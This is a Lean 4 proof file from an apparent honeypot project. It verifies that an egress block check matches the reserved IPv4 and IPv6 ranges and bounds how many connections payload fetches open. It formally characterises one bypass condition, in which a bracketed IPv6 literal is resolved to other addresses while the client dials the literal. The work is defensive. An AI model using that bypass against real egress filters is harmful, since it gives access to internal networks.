import AegisHoneypot.SessionMoves
import AegisHoneypot.SessionSilence
import AegisHoneypot.Library.Network

namespace AegisHoneypot.EgressSafety
open FileTree Utf8Text GatewayHost OverlaySandbox Vfs Forensics PayloadFetch SessionHandler SessionInput SessionMoves
open SessionSilence Chronicle Network

-- An address as a number, the first octet in front.
def v4Number (a b c d : UInt8) : Nat := a.toNat*2^24 + b.toNat*2^16 + c.toNat*2^8 + d.toNat

def v6Number (high low : UInt64) : Nat := high.toNat*2^64 + low.toNat

def v4Net (a b c d : UInt8) (bits : Nat) : Net := ⟨v4Number a b c d,bits⟩

def v6Net (high low : UInt64) (bits : Nat) : Net := ⟨v6Number high low,bits⟩

def reservedV4 : List Net :=
  [v4Net 0 0 0 0 8,v4Net 10 0 0 0 8,v4Net 100 64 0 0 10,v4Net 127 0 0 0 8,v4Net 169 254 0 0 16,v4Net 172 16 0 0 12,
   v4Net 192 0 2 0 24,v4Net 192 168 0 0 16,v4Net 198 18 0 0 15,v4Net 198 51 100 0 24,v4Net 203 0 113 0 24,
   v4Net 224 0 0 0 4,v4Net 240 0 0 0 4]

def reservedV6 : List Net :=
  [v6Net 0 0 128,v6Net 0 1 128,v6Net 0xfc00000000000000 0 7,v6Net 0xfe80000000000000 0 10,v6Net 0xff00000000000000 0 8]

def mappedV4 (a b c d : UInt8) : Nat := 0xffff*2^32 + v4Number a b c d

def Reserved : IpAddr → Prop
  | .v4 a b c d => Among 32 reservedV4 (v4Number a b c d)
  | .v6 high low => Among 128 reservedV6 (v6Number high low) ∨
      ∃ a b c d, v6Number high low = mappedV4 a b c d ∧ Among 32 reservedV4 (v4Number a b c d)

section Octets
variable (a b c d p q r : UInt8)

-- A network of whole octets fixes these octets.
theorem first_octet : (v4Net p 0 0 0 8).Holds 32 (v4Number a b c d) ↔ a.toNat = p.toNat := by
  have small := And.intro b.toNat_lt (And.intro c.toNat_lt d.toNat_lt)
  simp only [Net.Holds,v4Net,v4Number,UInt8.toNat_zero]
  omega

theorem two_octets : (v4Net p q 0 0 16).Holds 32 (v4Number a b c d) ↔ a.toNat = p.toNat ∧ b.toNat = q.toNat := by
  have small := And.intro b.toNat_lt (And.intro c.toNat_lt d.toNat_lt)
  have base := q.toNat_lt
  simp only [Net.Holds,v4Net,v4Number,UInt8.toNat_zero]
  omega

theorem three_octets : (v4Net p q r 0 24).Holds 32 (v4Number a b c d) ↔
    a.toNat = p.toNat ∧ b.toNat = q.toNat ∧ c.toNat = r.toNat := by
  have small := And.intro b.toNat_lt (And.intro c.toNat_lt d.toNat_lt)
  have base := And.intro q.toNat_lt r.toNat_lt
  simp only [Net.Holds,v4Net,v4Number,UInt8.toNat_zero]
  omega

theorem half_octet : (v4Net p 0 0 0 4).Holds 32 (v4Number a b c d) ↔ a.toNat/16 = p.toNat/16 := by
  have small := And.intro b.toNat_lt (And.intro c.toNat_lt d.toNat_lt)
  simp only [Net.Holds,v4Net,v4Number,UInt8.toNat_zero]
  omega

theorem shared_octets : (v4Net p q 0 0 10).Holds 32 (v4Number a b c d) ↔ a.toNat = p.toNat ∧ b.toNat/64 = q.toNat/64 := by
  have small := And.intro b.toNat_lt (And.intro c.toNat_lt d.toNat_lt)
  have base := q.toNat_lt
  simp only [Net.Holds,v4Net,v4Number,UInt8.toNat_zero]
  omega

theorem private_octets : (v4Net p q 0 0 12).Holds 32 (v4Number a b c d) ↔ a.toNat = p.toNat ∧ b.toNat/16 = q.toNat/16 := by
  have small := And.intro b.toNat_lt (And.intro c.toNat_lt d.toNat_lt)
  have base := q.toNat_lt
  simp only [Net.Holds,v4Net,v4Number,UInt8.toNat_zero]
  omega

theorem benchmark_octets : (v4Net p q 0 0 15).Holds 32 (v4Number a b c d) ↔ a.toNat = p.toNat ∧ b.toNat/2 = q.toNat/2 := by
  have small := And.intro b.toNat_lt (And.intro c.toNat_lt d.toNat_lt)
  have base := q.toNat_lt
  simp only [Net.Holds,v4Net,v4Number,UInt8.toNat_zero]
  omega

theorem blockedV4_exact : isBlockedV4 a b c d = true ↔ Among 32 reservedV4 (v4Number a b c d) := by
  have octet : a.toNat < 256 := a.toNat_lt
  simp only [reservedV4,among_cons,among_nil,or_false,first_octet,two_octets,three_octets,half_octet,shared_octets,
    private_octets,benchmark_octets]
  simp only [isBlockedV4,Bool.or_eq_true,Bool.and_eq_true,beq_iff_eq,decide_eq_true_eq,UInt8.le_iff_toNat_le,
    UInt8.lt_iff_toNat_lt,← UInt8.toNat_inj,UInt8.toNat_ofNat]
  generalize a.toNat = a at *
  generalize b.toNat = b at *
  generalize c.toNat = c at *
  generalize d.toNat = d at *
  have shared : b/64 = 64/64 ↔ 64 ≤ b ∧ b < 128 := by omega
  have private_ : b/16 = 16/16 ↔ 16 ≤ b ∧ b ≤ 31 := by omega
  have benchmark : b/2 = 18/2 ↔ 18 ≤ b ∧ b < 20 := by omega
  have multicast : a/16 = 224/16 ↔ 224 ≤ a ∧ a ≤ 239 := by omega
  have future : a/16 = 240/16 ↔ 240 ≤ a := by omega
  rw [shared,private_,benchmark,multicast,future]
  constructor
  · intro given
    simp only [or_assoc] at given
    rcases given with h | h | h | h | h | h | h | h | h | h | h | h | h | h | h <;> simp [h]
  · intro given
    rcases given with h | h | h | h | h | h | h | h | h | h | h | h | h <;> simp [h]
end Octets

section Halves
variable (high low : UInt64)

theorem shifted (value count : UInt64) (places : Nat) (same : count.toNat = places) (small : places < 64) :
    (value >>> count).toNat = value.toNat/2^places := by
  rw [UInt64.toNat_shiftRight,same,Nat.mod_eq_of_lt small,Nat.shiftRight_eq_div_pow]

theorem mapped_exact : (high == 0 && low >>> 32 == 0xffff) = true ↔ high.toNat = 0 ∧ low.toNat/2^32 = 0xffff := by
  rw [Bool.and_eq_true,beq_iff_eq,beq_iff_eq,← UInt64.toNat_inj,← UInt64.toNat_inj,shifted low 32 32 rfl (by decide)]
  rfl

theorem octets_number :
    v4Number (low >>> 24).toUInt8 (low >>> 16).toUInt8 (low >>> 8).toUInt8 low.toUInt8 = low.toNat % 2^32 := by
  unfold v4Number
  simp only [UInt64.toNat_toUInt8]
  rw [shifted low 24 24 rfl (by decide),shifted low 16 16 rfl (by decide),shifted low 8 8 rfl (by decide)]
  omega

theorem v4Number_lt (a b c d : UInt8) : v4Number a b c d < 2^32 := by
  have small := And.intro a.toNat_lt (And.intro b.toNat_lt (And.intro c.toNat_lt d.toNat_lt))
  unfold v4Number
  omega

theorem mapped_number (a b c d : UInt8) : v6Number high low = mappedV4 a b c d ↔
    (high.toNat = 0 ∧ low.toNat/2^32 = 0xffff) ∧ v4Number a b c d = low.toNat % 2^32 := by
  have small := v4Number_lt a b c d
  have size := And.intro high.toNat_lt low.toNat_lt
  unfold v6Number mappedV4
  omega

theorem whole_address (first last : UInt64) : (v6Net first last 128).Holds 128 (v6Number high low) ↔ high = first ∧ low = last := by
  have size := And.intro low.toNat_lt last.toNat_lt
  rw [← UInt64.toNat_inj,← UInt64.toNat_inj]
  simp only [Net.Holds,v6Net,v6Number]
  omega

theorem multicast_address : (v6Net 0xff00000000000000 0 8).Holds 128 (v6Number high low) ↔ high >>> 56 = 0xff := by
  have size := low.toNat_lt
  rw [← UInt64.toNat_inj,shifted high 56 56 rfl (by decide)]
  simp only [Net.Holds,v6Net,v6Number,UInt64.toNat_ofNat]
  omega

theorem masked (ones low_ : Nat) (mask value : UInt64) (wide : low_+ones = 16) (masks : mask.toNat = (2^ones-1)*2^low_) :
    ((high >>> 48) &&& mask = value ↔ high.toNat/2^48/2^low_*2^low_ = value.toNat) := by
  have size : high.toNat/2^48 < 2^(low_+ones) := by
    have bound := high.toNat_lt
    rw [wide]
    omega
  rw [← UInt64.toNat_inj,UInt64.toNat_and,shifted high 48 48 rfl (by decide),masks,mask_leading _ size]

theorem unique_local_address : (v6Net 0xfc00000000000000 0 7).Holds 128 (v6Number high low) ↔
    (high >>> 48) &&& 0xfe00 = 0xfc00 := by
  have size := And.intro high.toNat_lt low.toNat_lt
  rw [masked high 7 9 0xfe00 0xfc00 rfl rfl]
  simp only [Net.Holds,v6Net,v6Number,UInt64.toNat_ofNat]
  omega

theorem link_local_address : (v6Net 0xfe80000000000000 0 10).Holds 128 (v6Number high low) ↔
    (high >>> 48) &&& 0xffc0 = 0xfe80 := by
  have size := And.intro high.toNat_lt low.toNat_lt
  rw [masked high 10 6 0xffc0 0xfe80 rfl rfl]
  simp only [Net.Holds,v6Net,v6Number,UInt64.toNat_ofNat]
  omega

end Halves

-- The checks of the code and the ranges, for every address of either family.
theorem blocked_exact (ip : IpAddr) : isBlockedIp ip = true ↔ Reserved ip := by
  cases ip with
  | v4 a b c d => exact blockedV4_exact a b c d
  | v6 high low =>
    simp only [isBlockedIp,Reserved]
    by_cases mapped : high.toNat = 0 ∧ low.toNat/2^32 = 0xffff
    · have none : ¬ Among 128 reservedV6 (v6Number high low) := by
        simp only [reservedV6,among_cons,among_nil,or_false,Net.Holds,v6Net,v6Number,UInt64.toNat_ofNat]
        have size := low.toNat_lt
        omega
      rw [if_pos ((mapped_exact high low).mpr mapped),blockedV4_exact,octets_number,or_iff_right none]
      constructor
      · intro reserved
        rw [← octets_number] at reserved
        exact ⟨_,_,_,_,(mapped_number high low _ _ _ _).mpr ⟨mapped,octets_number low⟩,reserved⟩
      · intro given
        obtain ⟨a,b,c,d,same,reserved⟩ := given
        rwa [((mapped_number high low a b c d).mp same).2] at reserved
    · have none : ¬ ∃ a b c d, v6Number high low = mappedV4 a b c d ∧ Among 32 reservedV4 (v4Number a b c d) := by
        intro given
        obtain ⟨a,b,c,d,same,_⟩ := given
        exact mapped ((mapped_number high low a b c d).mp same).1
      rw [if_neg (fun given => mapped ((mapped_exact high low).mp given)),or_iff_left none]
      simp only [reservedV6,among_cons,among_nil,or_false,whole_address,unique_local_address,link_local_address,
        multicast_address,Bool.or_eq_true,Bool.and_eq_true,beq_iff_eq]
      constructor
      · intro given
        rcases given with (((loopback | unspecified) | multicast) | unique) | link
        · exact Or.inr (Or.inl loopback)
        · exact Or.inl unspecified
        · exact Or.inr (Or.inr (Or.inr (Or.inr multicast)))
        · exact Or.inr (Or.inr (Or.inl unique))
        · exact Or.inr (Or.inr (Or.inr (Or.inl link)))
      · intro given
        rcases given with unspecified | loopback | unique | link | multicast
        · exact Or.inl (Or.inl (Or.inl (Or.inr unspecified)))
        · exact Or.inl (Or.inl (Or.inl (Or.inl loopback)))
        · exact Or.inl (Or.inr unique)
        · exact Or.inr link
        · exact Or.inl (Or.inl (Or.inr multicast))

def connections (log : List Effect) : List (IpAddr × UInt16) := log.filterMap fun
  | .dialled ip port => some (ip,port)
  | _ => none

-- An address is dialled right after a lookup for its port that returned it.
def Vetted (past : List Effect) : Effect → Prop
  | .dialled ip port => ∃ name answers, past.getLast? = some (.lookedUp name port (.ok answers)) ∧ ip ∈ answers ∧ ¬ Reserved ip
  | _ => True

-- What the HTTP client promises: it opens at most one connection for a request, to
-- the pinned address or to the address that the host of the URL spells.
structure Reliable (io : FetchIo) : Prop where
  once : ∀ url target, (io.dials url target).length ≤ 1
  pinned : ∀ url target, url.literal = none → ∀ address ∈ io.dials url target, address = target
  literal : ∀ url target ip, url.literal = some ip → ∀ address ∈ io.dials url target, address = (ip,target.2)

-- How the URL library writes a host that is an address.
structure HostTexts (parseUrl : Text → Option Url) : Prop where
  v4 : ∀ text url a b c d, parseUrl text = some url → url.literal = some (.v4 a b c d) →
    url.hostStr = some (AddressText.v4Text a b c d)
  v6 : ∀ text url high low, parseUrl text = some url → url.literal = some (.v6 high low) →
    ∃ rest, url.hostStr = some ('[' :: rest)

-- The host is an IPv6 address, whose text in brackets is a name to
-- `to_socket_addrs`: the resolver answers it with other addresses, none of them
-- blocked, and the client dials the one in the URL.
structure Deceived (platform : Platform) (fetch : Fetch) (url : Url) (name : Text) (port : UInt16) (first : IpAddr) (others : List IpAddr) :
    Prop where
  parsed : platform.parseUrl fetch.url = some url
  looked : lookupOf url = some (name,port)
  answered : fetch.io.resolve name port = .ok (first :: others)
  free : ∀ ip ∈ first :: others, isBlockedIp ip = false
  other : ∃ high low, url.literal = some (.v6 high low) ∧ .v6 high low ∉ first :: others
  dials : fetch.io.builds = true ∧ fetch.io.dials url (first,port) ≠ []

def Deceives (platform : Platform) (fetch : Fetch) : Prop :=
  ∃ url name port first others, Deceived platform fetch url name port first others

def Offline (effect : Effect) : Prop := ∀ ip port, effect ≠ .dialled ip port

theorem emitted_offline (event : TelemetryEvent) : Offline (.emitted event) := by
  intro ip port same
  cases same

-- A stretch of the log with at most so many connections, which are vetted under
-- a condition.
def Adds (count : Nat) (sound : Prop) (before after : List Effect) : Prop :=
  ∃ new, after = before ++ new ∧ (connections new).length ≤ count ∧ ∀ past, CleanAfter Vetted past new ↔ sound

theorem connections_append (log new : List Effect) : connections (log ++ new) = connections log ++ connections new :=
  List.filterMap_append ..

theorem offline_connections (new : List Effect) (offline : ∀ effect ∈ new, Offline effect) : connections new = [] := by
  rw [connections,List.filterMap_eq_nil_iff]
  intro effect member
  cases effect with
  | dialled ip port => exact absurd rfl (offline _ member ip port)
  | _ => rfl

theorem offline_vetted (offline : Offline effect) (past : List Effect) : Vetted past effect := by
  cases effect with
  | dialled ip port => exact absurd rfl (offline ip port)
  | _ => trivial

theorem offline_clean (past new : List Effect) (offline : ∀ effect ∈ new, Offline effect) : CleanAfter Vetted past new :=
  cleanAfter_free past new (fun effect member earlier => offline_vetted (offline effect member) earlier)

theorem Adds.offline (count : Nat) (grows : Grows Offline before after) : Adds count True before after := by
  obtain ⟨new,rfl,offline⟩ := grows
  refine ⟨new,rfl,by simp [offline_connections new offline],?_⟩
  exact fun past => iff_of_true (offline_clean past new offline) trivial

theorem Adds.then_offline (adds : Adds count sound before middle) (grows : Grows Offline middle after) :
    Adds count sound before after := by
  obtain ⟨first,rfl,few,clean⟩ := adds
  obtain ⟨new,rfl,offline⟩ := grows
  refine ⟨first ++ new,List.append_assoc ..,?_,?_⟩
  · rw [connections_append,offline_connections new offline,List.append_nil]
    exact few
  · intro past
    rw [cleanAfter_append,clean,and_iff_left (offline_clean _ new offline)]

theorem Adds.after_offline (grows : Grows Offline before middle) (adds : Adds count sound middle after) :
    Adds count sound before after := by
  obtain ⟨first,rfl,offline⟩ := grows
  obtain ⟨new,rfl,few,clean⟩ := adds
  refine ⟨first ++ new,List.append_assoc ..,?_,?_⟩
  · rw [connections_append,offline_connections first offline,List.nil_append]
    exact few
  · intro past
    rw [cleanAfter_append,clean,and_iff_right (offline_clean past first offline)]

theorem Adds.change (adds : Adds count sound before after) (same : sound ↔ other) : Adds count other before after := by
  obtain ⟨new,grown,few,clean⟩ := adds
  exact ⟨new,grown,few,fun past => (clean past).trans same⟩

theorem vetTarget_exact (resolve : Text → UInt16 → Except Text (List IpAddr)) (url : Url) : vetTarget resolve url = .ok target ↔
    ∃ name others, lookupOf url = some (name,target.2) ∧ url.hostStr = some name ∧ resolve name target.2 = .ok (target.1 :: others) ∧
      ∀ ip ∈ target.1 :: others, isBlockedIp ip = false := by
  unfold vetTarget lookupOf
  by_cases scheme : url.scheme ≠ "http".toList ∧ url.scheme ≠ "https".toList
  · rw [if_pos scheme,if_pos scheme]
    simp
  · rw [if_neg scheme,if_neg scheme]
    cases url.hostStr with
    | none => simp
    | some name =>
      cases url.portOrKnownDefault with
      | none => simp
      | some port =>
        obtain ⟨ip,other⟩ := target
        dsimp only
        cases answered : resolve name port with
        | error reason =>
          refine iff_of_false nofun ?_
          rintro ⟨_,_,looked,_,given,_⟩
          cases looked
          cases answered.symm.trans given
        | ok answers =>
          cases answers with
          | nil =>
            refine iff_of_false nofun ?_
            rintro ⟨_,_,looked,_,given,_⟩
            cases looked
            cases answered.symm.trans given
          | cons first others =>
            dsimp only
            cases found : (first :: others).find? isBlockedIp with
            | some bad =>
              refine iff_of_false nofun ?_
              rintro ⟨_,_,looked,_,given,free⟩
              cases looked
              cases answered.symm.trans given
              have blocked := List.find?_some found
              rw [free bad (List.mem_of_find?_eq_some found)] at blocked
              cases blocked
            | none =>
              have free : ∀ ip ∈ first :: others, isBlockedIp ip = false :=
                fun ip member => by simpa using List.find?_eq_none.mp found ip member
              constructor
              · intro same
                cases same
                exact ⟨name,others,rfl,rfl,answered,free⟩
              · rintro ⟨_,_,looked,_,given,_⟩
                cases looked
                cases answered.symm.trans given
                rfl

-- The lookup answers a host that spells an IPv4 address with that address, and
-- asks the resolver for one that spells an IPv6 address.
theorem toSocketAddrs_v4 {platform : Platform} {url : Url} (texts : HostTexts platform.parseUrl) (parsed : platform.parseUrl text = some url)
    (spelled : url.literal = some (.v4 a b c d)) (hosted : url.hostStr = some name) (io : FetchIo) (port : UInt16) :
    io.toSocketAddrs name port = .ok [.v4 a b c d] := by
  cases hosted.symm.trans (texts.v4 text url a b c d parsed spelled)
  rw [FetchIo.toSocketAddrs,SocketAddresses.toSocketAddrs,SocketAddresses.parseIp_v4Text]

theorem toSocketAddrs_v6 {platform : Platform} {url : Url} (texts : HostTexts platform.parseUrl) (parsed : platform.parseUrl text = some url)
    (spelled : url.literal = some (.v6 high low)) (hosted : url.hostStr = some name) (io : FetchIo) (port : UInt16) :
    io.toSocketAddrs name port = io.resolve name port := by
  obtain ⟨rest,bracket⟩ := texts.v6 text url high low parsed spelled
  cases hosted.symm.trans bracket
  rw [FetchIo.toSocketAddrs,SocketAddresses.toSocketAddrs,SocketAddresses.parseIp_bracket]

theorem lookupOf_host (looked : lookupOf url = some (name,port)) : url.hostStr = some name := by
  unfold lookupOf at looked
  split at looked
  · cases looked
  · split at looked
    · rename_i given _
      cases looked
      exact given
    · cases looked

-- Who deceives passes the check.
theorem Deceived.vetted (texts : HostTexts platform.parseUrl) (deceived : Deceived platform fetch url name port first others) :
    vetTarget fetch.io.toSocketAddrs url = .ok (first,port) := by
  obtain ⟨high,low,spelled,_⟩ := deceived.other
  have hosted := lookupOf_host deceived.looked
  refine (vetTarget_exact _ url).mpr ⟨name,others,deceived.looked,hosted,?_,deceived.free⟩
  rw [toSocketAddrs_v6 texts deceived.parsed spelled hosted]
  exact deceived.answered

theorem deceives_exact {fetch : Fetch} (texts : HostTexts platform.parseUrl) (parsed : platform.parseUrl fetch.url = some url)
    (looked : lookupOf url = some (name,target.2)) (answered : fetch.io.toSocketAddrs name target.2 = .ok (target.1 :: others))
    (free : ∀ ip ∈ target.1 :: others, isBlockedIp ip = false) (built : fetch.io.builds = true) : Deceives platform fetch ↔
      (∃ high low, url.literal = some (.v6 high low) ∧ .v6 high low ∉ target.1 :: others) ∧ fetch.io.dials url target ≠ [] := by
  constructor
  · rintro ⟨_,_,port,first,others,deceived⟩
    cases parsed.symm.trans deceived.parsed
    cases looked.symm.trans deceived.looked
    obtain ⟨high,low,spelled,other⟩ := deceived.other
    have asked := toSocketAddrs_v6 texts parsed spelled (lookupOf_host looked) fetch.io target.2
    cases answered.symm.trans (asked.trans deceived.answered)
    exact ⟨⟨high,low,spelled,other⟩,deceived.dials.2⟩
  · rintro ⟨⟨high,low,spelled,other⟩,dials⟩
    have asked := toSocketAddrs_v6 texts parsed spelled (lookupOf_host looked) fetch.io target.2
    exact ⟨url,name,target.2,target.1,others,parsed,looked,asked.symm.trans answered,free,⟨high,low,spelled,other⟩,built,dials⟩

-- The address that is dialled is among the answers of the lookup before it, unless
-- the host is an IPv6 literal that is not.
theorem dialled_exact {platform : Platform} {fetch : Fetch} {url : Url} (sound : Reliable fetch.io) (texts : HostTexts platform.parseUrl)
    (parsed : platform.parseUrl fetch.url = some url) (hosted : url.hostStr = some name)
    (answered : fetch.io.toSocketAddrs name target.2 = .ok (target.1 :: others)) (safe : ∀ ip ∈ target.1 :: others, ¬ Reserved ip)
    (dialled : address ∈ fetch.io.dials url target) (past : List Effect) :
    Vetted (past ++ [.lookedUp name target.2 (.ok (target.1 :: others))]) (.dialled address.1 address.2) ↔
      ¬ ∃ high low, url.literal = some (.v6 high low) ∧ .v6 high low ∉ target.1 :: others := by
  have answer : address.2 = target.2 →
      (Vetted (past ++ [.lookedUp name target.2 (.ok (target.1 :: others))]) (.dialled address.1 address.2) ↔
        address.1 ∈ target.1 :: others) := by
    intro port
    rw [port]
    constructor
    · rintro ⟨_,_,last,member,_⟩
      rw [List.getLast?_concat] at last
      cases last
      exact member
    · exact fun member => ⟨name,_,List.getLast?_concat,member,safe _ member⟩
  cases spelled : url.literal with
  | none =>
    rw [sound.pinned url target spelled address dialled] at answer ⊢
    exact iff_of_true ((answer rfl).mpr List.mem_cons_self) (by rintro ⟨_,_,same,_⟩; cases same)
  | some ip =>
    rw [sound.literal url target ip spelled address dialled] at answer ⊢
    rw [answer rfl]
    cases ip with
    | v4 a b c d =>
      have own := toSocketAddrs_v4 texts parsed spelled hosted fetch.io target.2
      rw [Except.ok.inj (answered.symm.trans own)]
      exact iff_of_true List.mem_cons_self (by rintro ⟨_,_,same,_⟩; cases same)
    | v6 high low =>
      constructor
      · rintro member ⟨_,_,same,other⟩
        cases same
        exact other member
      · intro honest
        by_contra other
        exact honest ⟨high,low,rfl,other⟩

theorem dial_adds {fetch : Fetch} (sound : Reliable fetch.io) (texts : HostTexts platform.parseUrl)
    (parsed : platform.parseUrl fetch.url = some url) (vetted : vetTarget fetch.io.toSocketAddrs url = .ok target)
    (built : fetch.io.builds = true) (host : Host) :
    Adds 1 (¬ Deceives platform fetch) host.log (dial fetch.io url target (lookUp fetch.io url host)).log := by
  obtain ⟨name,others,looked,hosted,answered,free⟩ := (vetTarget_exact _ url).mp vetted
  have asked : (lookUp fetch.io url host).log = host.log ++ [.lookedUp name target.2 (.ok (target.1 :: others))] := by
    unfold lookUp
    rw [looked]
    simp only [Host.note_log,answered]
  have safe : ∀ ip ∈ target.1 :: others, ¬ Reserved ip := by
    intro ip member reserved
    have blocked := (blocked_exact ip).mpr reserved
    rw [free ip member] at blocked
    cases blocked
  have few := sound.once url target
  refine ⟨.lookedUp name target.2 (.ok (target.1 :: others)) ::
    (fetch.io.dials url target).map (fun address => .dialled address.1 address.2),?_,?_,?_⟩
  · rw [dial_log,asked,List.append_assoc,List.singleton_append]
  · rw [connections,List.filterMap_cons,List.filterMap_map]
    exact le_trans (List.length_filterMap_le ..) few
  · intro past
    have lookup : Vetted past (.lookedUp name target.2 (.ok (target.1 :: others))) := trivial
    rw [deceives_exact texts parsed looked answered free built,CleanAfter,and_iff_right lookup]
    cases opened : fetch.io.dials url target with
    | nil => simp [CleanAfter]
    | cons address rest =>
      rw [opened] at few
      have single : rest = [] := List.length_eq_zero_iff.mp (Nat.le_zero.mp (Nat.le_of_succ_le_succ few))
      subst single
      have dialled : address ∈ fetch.io.dials url target := opened ▸ List.mem_cons_self
      rw [List.map_singleton,CleanAfter,CleanAfter,and_true,and_iff_left (List.cons_ne_nil _ _)]
      exact dialled_exact sound texts parsed hosted answered safe dialled past

theorem fetch_adds (fetch : Fetch) (sound : Reliable fetch.io) (texts : HostTexts platform.parseUrl) (quarantineDir : Text)
    (mountRoot : Option Path) (maxBytes : Nat) (host : Host) : Adds 1 (¬ Deceives platform fetch) host.log
      (fetchPayloadBlocking platform fetch.io fetch.url quarantineDir mountRoot maxBytes host).2.log := by
  have unvetted : ∀ {after : List Effect}, Grows Offline host.log after → ¬ Deceives platform fetch →
      Adds 1 (¬ Deceives platform fetch) host.log after :=
    fun grows honest => (Adds.offline 1 grows).change (iff_of_true trivial honest)
  unfold fetchPayloadBlocking
  cases parsed : platform.parseUrl fetch.url with
  | none =>
    refine unvetted (Grows.refl _ _) ?_
    rintro ⟨_,_,_,_,_,deceived⟩
    cases parsed.symm.trans deceived.parsed
  | some target =>
    have asked : Grows Offline host.log (lookUp fetch.io target host).log := by
      unfold lookUp
      split
      · exact Grows.refl _ _
      · exact Grows.one _ (fun _ _ same => by cases same)
    dsimp only
    cases vetted : vetTarget fetch.io.toSocketAddrs target with
    | error refusal =>
      refine unvetted asked ?_
      rintro ⟨_,_,_,_,_,deceived⟩
      cases parsed.symm.trans deceived.parsed
      cases vetted.symm.trans (deceived.vetted texts)
    | ok address =>
      dsimp only
      split
      · rename_i unbuilt
        refine unvetted asked ?_
        rintro ⟨_,_,_,_,_,deceived⟩
        cases unbuilt.symm.trans deceived.dials.1
      · rename_i built
        have connected := dial_adds sound texts parsed vetted (by simpa using built) host
        cases fetch.io.answer target address with
        | none => exact connected
        | some response =>
          dsimp only
          split
          · exact connected
          · refine connected.then_offline ((keepPayload_grows platform fetch.io _ mountRoot target _ _).weaken ?_)
            intro effect kept ip port same
            subst same
            exact kept

def allowance (config : SessionConfig) : Nat := if config.fetchPayloads then config.maxFetchesPerSession else 0

-- A fetch is counted before it starts, and pays for the connection it may open
-- now or when it is waited for no longer. `made` are the fetches so far.
structure Budgeted (platform : Platform) (root : Path) (config : SessionConfig) (made : List Fetch) (world : World) : Prop where
  configured : world.session.config = config
  rooted : Rooted root world
  clean : Clean Vetted world.host.log ↔ ∀ fetch ∈ made, ¬ Deceives platform fetch
  spent : (connections world.host.log).length + world.pending.length ≤ world.session.fetchCount
  limit : world.session.fetchCount ≤ allowance config

theorem Budgeted.extend (budgeted : Budgeted platform root config made before) (adds : Adds count sound before.host.log after.host.log)
    (exactly : sound ↔ ∀ fetch ∈ last, ¬ Deceives platform fetch)
    (same : after.session.config = before.session.config) (rooted : Rooted root after)
    (paid : count + after.pending.length + before.session.fetchCount ≤ before.pending.length + after.session.fetchCount)
    (limit : after.session.fetchCount ≤ allowance config) : Budgeted platform root config (made ++ last) after := by
  obtain ⟨new,grown,few,clean⟩ := adds
  refine ⟨same.trans budgeted.configured,rooted,?_,?_,limit⟩
  · rw [grown,clean_append,clean,budgeted.clean,exactly,List.forall_mem_append]
  · have spent := budgeted.spent
    rw [grown,connections_append,List.length_append]
    omega

theorem Budgeted.quiet (budgeted : Budgeted platform root config made before) (grows : Grows Offline before.host.log after.host.log)
    (same : after.session.config = before.session.config) (rooted : Rooted root after) (pending : after.pending = before.pending)
    (counted : after.session.fetchCount = before.session.fetchCount) : Budgeted platform root config made after := by
  have extended : Budgeted platform root config (made ++ []) after := by
    refine budgeted.extend (Adds.offline 0 grows) (by simp) same rooted ?_ (counted ▸ budgeted.limit)
    rw [pending,counted]
    omega
  rwa [List.append_nil] at extended

theorem remark_offline (effect : Effect) (remark : IsRemark effect) : Offline effect := by
  intro ip port same
  subst same
  exact remark

theorem shell_offline (effect : Effect) (changes : IsShell effect) : Offline effect := by
  intro ip port same
  subst same
  exact changes

theorem cleanup_offline (effect : Effect) (cleans : IsCleanup effect) : Offline effect := by
  intro ip port same
  subst same
  exact cleans

theorem teardown_offline (platform : Platform) (io : TeardownIo) (world : World) :
    Grows Offline world.host.log (teardown platform io world).host.log := by
  cases active : world.session.isEnded with
  | true =>
    rw [teardown_ended platform io world active]
    exact Grows.refl _ _
  | false =>
    obtain ⟨later,same,cleans⟩ := teardown_log platform io world active
    refine ⟨_,same,?_⟩
    rw [List.forall_mem_cons]
    exact ⟨emitted_offline _,fun effect member => cleanup_offline effect (cleans effect member)⟩

theorem single_fetch (fetch : Fetch) : ¬ Deceives platform fetch ↔ ∀ other ∈ [fetch], ¬ Deceives platform other := by simp

theorem startFetch_budgeted (platform : Platform) (io : ByteIo) (cmd url : Text) (texts : HostTexts platform.parseUrl)
    (sound : io.inTime = true → Reliable io.fetch) (budgeted : Budgeted platform root config made world)
    (allowed : world.session.config.fetchPayloads = true)
    (left : world.session.fetchCount < world.session.config.maxFetchesPerSession) :
    Budgeted platform root config (made ++ if io.inTime then [⟨io.fetch,url⟩] else []) (startFetch platform io cmd url world).2 := by
  have limit : world.session.fetchCount+1 ≤ allowance config := by
    rw [budgeted.configured] at allowed left
    rw [allowance,if_pos allowed]
    exact left
  have rooted : Rooted root (startFetch platform io cmd url world).2 :=
    (startFetch_works platform io cmd url world).rooted budgeted.rooted
  have started : Grows Offline world.host.log (world.host.log ++ [.fetchStarted url]) :=
    Grows.one _ (fun _ _ same => by cases same)
  revert rooted
  unfold startFetch awaitFetch
  dsimp only
  cases waited : io.inTime with
  | true =>
    intro rooted
    have fetched : Adds 1 (¬ Deceives platform ⟨io.fetch,url⟩) world.host.log (fetchPayloadBlocking platform io.fetch url
        world.session.config.quarantineDir world.session.vfs.mountRoot world.session.config.maxPayloadBytes
        (world.host.note (.fetchStarted url))).2.log :=
      Adds.after_offline started (fetch_adds ⟨io.fetch,url⟩ (sound waited) texts _ _ _ _)
    revert rooted
    simp only [if_true]
    split
    · intro rooted
      refine budgeted.extend (fetched.then_offline (Grows.one _ (emitted_offline _))) (single_fetch _) rfl rooted ?_ limit
      simp only [World.note,World.update]
      omega
    · intro rooted
      refine budgeted.extend fetched (single_fetch _) rfl rooted ?_ limit
      simp only [World.note,World.update]
      omega
  | false =>
    intro rooted
    refine budgeted.extend (Adds.offline 0 started) (by simp) rfl rooted ?_ limit
    simp only [Bool.false_eq_true,if_false,World.note,World.update,List.length_append,List.length_singleton]
    omega

theorem fetchLands_budgeted (platform : Platform) (io : FetchIo) (texts : HostTexts platform.parseUrl)
    (sound : world.pending ≠ [] → Reliable io) (budgeted : Budgeted platform root config made world) :
    Budgeted platform root config (made ++ world.pending.head?.toList.map (fun job => ⟨io,job.url⟩))
      (SessionInput.fetchLands platform io world) := by
  unfold SessionInput.fetchLands
  cases waiting : world.pending with
  | nil => simpa using budgeted
  | cons job rest =>
    have landed : Adds 1 (¬ Deceives platform ⟨io,job.url⟩) world.host.log _ :=
      fetch_adds ⟨io,job.url⟩ (sound (by simp [waiting])) texts job.quarantineDir job.mountRoot job.maxBytes world.host
    refine budgeted.extend landed (single_fetch _) rfl ⟨budgeted.rooted.plain,budgeted.rooted.rooted⟩ ?_ budgeted.limit
    simp only [waiting,List.length_cons]
